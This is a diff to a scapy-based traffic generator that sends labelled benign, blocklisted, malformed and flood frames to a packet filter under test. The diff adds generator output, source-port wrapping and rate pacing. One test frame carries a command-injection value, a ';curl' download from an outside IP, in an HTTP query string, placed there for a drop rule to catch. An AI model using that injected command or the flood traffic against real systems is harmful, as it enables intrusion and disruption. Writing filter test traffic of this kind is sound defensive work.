@@ -12,6 +12,7 @@ import argparse
 import json
 import socket
 import sys
+import time
 
 try:
     from scapy.all import DNS, DNSQR, ICMP, IP, TCP, UDP, Ether, Raw, raw, wrpcap
@@ -20,38 +21,40 @@ except ImportError:
 
 
 def frames(args):
-    """(kind, frame) pairs; kind names what the fast path should decide."""
+    """(kind, frame) pairs, made as they are sent; kind names the expected verdict."""
     eth = Ether(src=args.src_mac, dst=args.dst_mac)
     me, dut = args.src_ip, args.dst_ip
-    out = []
 
     for i in range(args.count):
-        out.append(("benign_udp", eth / IP(src=me, dst=dut) / UDP(sport=40000 + i, dport=9) / Raw(b"x" * 18)))
-        out.append(("benign_tcp", eth / IP(src=me, dst=dut) / TCP(sport=41000 + i, dport=80, flags="S")))
+        def sp(base):   # a source port per round, wrapping inside 1024..65535
+            return base + i if base + i < 65536 else 1024 + (base + i) % 64512
+        out = []
+        out.append(("benign_udp", eth / IP(src=me, dst=dut) / UDP(sport=sp(40000), dport=9) / Raw(b"x" * 18)))
+        out.append(("benign_tcp", eth / IP(src=me, dst=dut) / TCP(sport=sp(41000), dport=80, flags="S")))
         out.append(("blocklisted", eth / IP(src=args.blocked_ip, dst=dut) / UDP(sport=5353, dport=9) / Raw(b"y" * 18)))
-        out.append(("dns_query", eth / IP(src=me, dst=dut) / UDP(sport=42000 + i, dport=53) /
+        out.append(("dns_query", eth / IP(src=me, dst=dut) / UDP(sport=sp(42000), dport=53) /
                     DNS(rd=1, qd=DNSQR(qname="www.example.com"))))
-        out.append(("dns_evil", eth / IP(src=me, dst=dut) / UDP(sport=43000 + i, dport=53) /
+        out.append(("dns_evil", eth / IP(src=me, dst=dut) / UDP(sport=sp(43000), dport=53) /
                     DNS(rd=1, qd=DNSQR(qname="WWW.Evil.COM."))))
-        out.append(("payload_alert", eth / IP(src=me, dst=dut) / UDP(sport=46000 + i, dport=args.payload_port) /
+        out.append(("payload_alert", eth / IP(src=me, dst=dut) / UDP(sport=sp(46000), dport=args.payload_port) /
                     Raw(b"hello EVILBYTES world")))
-        out.append(("payload_benign", eth / IP(src=me, dst=dut) / UDP(sport=47000 + i, dport=args.payload_port) /
+        out.append(("payload_benign", eth / IP(src=me, dst=dut) / UDP(sport=sp(47000), dport=args.payload_port) /
                     Raw(b"hello ordinary world")))
         bad = raw(eth / IP(src=me, dst=dut) / UDP(sport=1, dport=9) / Raw(b"z" * 18))
         bad = bad[:14] + bytes([0x44]) + bad[15:]      # IHL 4
         out.append(("malformed_ihl", bad))
-        out.append(("malformed_synfin", eth / IP(src=me, dst=dut) / TCP(sport=44000 + i, dport=80, flags="SF")))
+        out.append(("malformed_synfin", eth / IP(src=me, dst=dut) / TCP(sport=sp(44000), dport=80, flags="SF")))
         if args.extra:
             # for the example policy: an HTTP request carrying a shell
             # download (rule 300 drops it) and a tracker lookup (rule 100 alerts)
             out.append(("http_attack", eth / IP(src=me, dst=dut) /
-                        TCP(sport=48000 + i, dport=80, flags="PA", seq=1000, ack=1) /
+                        TCP(sport=sp(48000), dport=80, flags="PA", seq=1000, ack=1) /
                         Raw(b"GET /?q=1;curl http://198.51.100.7/x HTTP/1.1\r\nHost: a\r\n\r\n")))
-            out.append(("dns_tracker", eth / IP(src=me, dst=dut) / UDP(sport=49000 + i, dport=53) /
+            out.append(("dns_tracker", eth / IP(src=me, dst=dut) / UDP(sport=sp(49000), dport=53) /
                         DNS(rd=1, qd=DNSQR(qname="cdn.tracker.example.net"))))
+        yield from out
     for i in range(args.flood):
-        out.append(("flood", eth / IP(src=args.flood_ip, dst=dut) / UDP(sport=45000, dport=9) / Raw(b"f" * 18)))
-    return out
+        yield ("flood", eth / IP(src=args.flood_ip, dst=dut) / UDP(sport=45000, dport=9) / Raw(b"f" * 18))
 
 
 def main():
@@ -67,6 +70,7 @@ def main():
     ap.add_argument("--payload-port", type=int, default=5000, help="UDP port of the payload samples")
     ap.add_argument("--count", type=int, default=5, help="rounds of the mix")
     ap.add_argument("--flood", type=int, default=0, help="back-to-back frames from --flood-ip")
+    ap.add_argument("--rate", type=float, default=0, help="frames per second (0: as fast as it can)")
     ap.add_argument("--only", action="append", metavar="KIND",
                     help="send only frames of this kind (again for more kinds)")
     ap.add_argument("--extra", action="store_true",
@@ -76,15 +80,22 @@ def main():
     if not args.iface and not args.pcap_out:
         ap.error("give --iface, --pcap-out, or both")
     sent = {}
-    mix = [(k, f if isinstance(f, bytes) else raw(f)) for k, f in frames(args)
-           if not args.only or k in args.only]
+    mix = ((k, f if isinstance(f, bytes) else raw(f)) for k, f in frames(args)
+           if not args.only or k in args.only)
     if args.pcap_out:
+        mix = list(mix)
         wrpcap(args.pcap_out, [Ether(f) for _, f in mix])
     s = None
     if args.iface:
         s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
         s.bind((args.iface, 0))
-    for kind, f in mix:
+    gap = 1.0 / args.rate if args.rate else 0
+    start = time.monotonic()
+    for i, (kind, f) in enumerate(mix):
+        if gap:     # paced: the i-th frame leaves at start + i * gap
+            delay = start + i * gap - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
         if s:
             s.send(f)
         sent[kind] = sent.get(kind, 0) + 1
